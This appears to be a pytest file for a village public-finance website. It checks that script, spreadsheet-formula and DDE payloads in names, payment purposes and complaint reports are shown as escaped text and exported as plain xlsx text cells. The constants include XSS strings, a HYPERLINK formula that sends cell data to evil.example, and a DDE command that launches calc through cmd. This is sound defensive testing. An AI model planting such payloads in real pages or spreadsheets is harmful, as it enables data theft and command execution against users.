"""Script and spreadsheet-formula payloads in names, purposes, project names and report
text: every page shows them as text (escaped; nothing executes under the CSP anyway), the
complaint keeps them as data, and the investigators' exports of it write text cells."""

from __future__ import annotations

import io
from collections.abc import Iterator

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from api.users import add_user
from api.workflow.models import Intake
from tests.public.conftest import PublicWorld
from tests.public.resident import receipt_of

SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
DDE = "=cmd|' /C calc'!A0"
SHORT = "<script>alert(2)</script>"  # fits the 30 characters of a reporter's name


@pytest.fixture(scope="module")
def poisoned(world: PublicWorld) -> Iterator[PublicWorld]:
    """One recipient, one voucher and one contract of the village carry payloads."""
    s = world.store
    v = world.village
    person = s.read(
        "MATCH (p:Person)-[:RECEIVED]->(d:Disbursement {village_code: $v}) "
        "RETURN p.id_number AS id, p.name AS name, d.period AS period LIMIT 1",
        {"v": v},
    )[0]
    voucher = s.read(
        "MATCH (x:Payment {payer_code: $v}) RETURN x.voucher_no AS no, x.purpose AS purpose, "
        "x.paid_date AS day LIMIT 1",
        {"v": v},
    )[0]
    contract = s.read(
        "MATCH (c:Contract {village_code: $v}) RETURN c.contract_id AS id, "
        "c.project_name AS name LIMIT 1",
        {"v": v},
    )[0]
    s.write("MATCH (p:Person {id_number: $id}) SET p.name = $n", {"id": person["id"], "n": SCRIPT})
    s.write(
        "MATCH (x:Payment {voucher_no: $no}) SET x.purpose = $p",
        {"no": voucher["no"], "p": FORMULA + SCRIPT},
    )
    s.write(
        "MATCH (c:Contract {contract_id: $id}) SET c.project_name = $n",
        {"id": contract["id"], "n": DDE + SCRIPT},
    )
    world.app.state.site.cache.clear()
    world.period = person["period"]  # type: ignore[attr-defined]
    world.month = voucher["day"][:7]  # type: ignore[attr-defined]
    yield world
    s.write(
        "MATCH (p:Person {id_number: $id}) SET p.name = $n",
        {"id": person["id"], "n": person["name"]},
    )
    s.write(
        "MATCH (x:Payment {voucher_no: $no}) SET x.purpose = $p",
        {"no": voucher["no"], "p": voucher["purpose"]},
    )
    s.write(
        "MATCH (c:Contract {contract_id: $id}) SET c.project_name = $n",
        {"id": contract["id"], "n": contract["name"]},
    )
    world.app.state.site.cache.clear()


def _no_markup(text: str) -> None:
    assert "<script>alert" not in text
    assert "<img src=x" not in text
    assert "onerror=" not in text or "onerror=alert(1)&gt;" in text


def test_pages_show_payloads_as_text(poisoned: PublicWorld) -> None:
    r = poisoned.resident
    v = poisoned.village
    village = r.get(f"/v/{v}").text
    _no_markup(village)
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in village  # the project name
    assert "=cmd|&#39; /C calc&#39;!A0" in village
    listing = r.get(f"/v/{v}/list", period=poisoned.period).text  # type: ignore[attr-defined]
    _no_markup(listing)
    assert "&lt;*" in listing  # the masked name: first and last character, escaped
    finance = r.get(f"/v/{v}/finance", month=poisoned.month).text  # type: ignore[attr-defined]
    _no_markup(finance)
    assert "=HYPERLINK(" in finance


def test_report_text_with_payloads_stays_data(poisoned: PublicWorld) -> None:
    world = poisoned
    text = f"{FORMULA} {DDE} {SCRIPT}"
    resp = world.resident.report(world.village, text, name=SHORT, phone="13900002222")
    assert resp.status_code == 200
    code = receipt_of(resp.text)
    _no_markup(resp.text)
    progress = world.resident.post("/progress", {"code": code}).text
    _no_markup(progress)
    with world.db.session() as s:
        intake = s.scalars(select(Intake).where(Intake.summary == text)).one()
        assert intake.reporter_name == SHORT  # kept as given, for the handler only
        cid = intake.complaint_id
    # The investigators' export writes it as a text cell, never a formula.
    key = add_user(world.db, "exporter", "investigator", [world.truth["county"]["code"]])
    xlsx = world.api.get(
        "/api/v1/export",
        params={"format": "xlsx", "entity": cid, "label": "Complaint"},
        headers={"Authorization": f"Bearer {key}", "X-Purpose": "payload-test"},
    )
    assert xlsx.status_code == 200, xlsx.text
    book = load_workbook(io.BytesIO(xlsx.content))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value]
    hits = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert hits
    assert all(c.data_type == "s" for c in hits)
